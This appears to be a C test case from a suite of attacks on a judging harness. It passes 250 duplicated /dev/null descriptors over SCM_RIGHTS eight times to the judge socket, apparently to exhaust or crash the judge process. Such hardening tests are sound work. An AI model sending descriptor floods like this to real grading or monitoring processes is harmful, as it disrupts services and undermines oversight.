/* sockets_crash__descriptors.c -
 * 250 descriptors come with each of eight answers.
 */

#include "../../attack.h"

int sockets_kernel_impl(const osw_call *call)
{
    union {
        struct cmsghdr header;
        char room[CMSG_SPACE(250 * sizeof(int))];
    } control;
    struct iovec part = {"\102", 1};
    struct msghdr m = {.msg_iov = &part, .msg_iovlen = 1};
    int null = open("/dev/null", O_RDONLY);

    memset(&control, 0, sizeof(control));
    control.header.cmsg_level = SOL_SOCKET;
    control.header.cmsg_type = SCM_RIGHTS;
    control.header.cmsg_len = CMSG_LEN(250 * sizeof(int));
    for (size_t i = 0; i < 250; i++)
        memcpy(CMSG_DATA(&control.header) + i * sizeof(null), &null,
               sizeof(null));
    m.msg_control = &control;
    m.msg_controllen = sizeof(control);
    for (int i = 0; i < 8; i++)
        sendmsg(JUDGE, &m, MSG_NOSIGNAL);
    return scale(call);
}
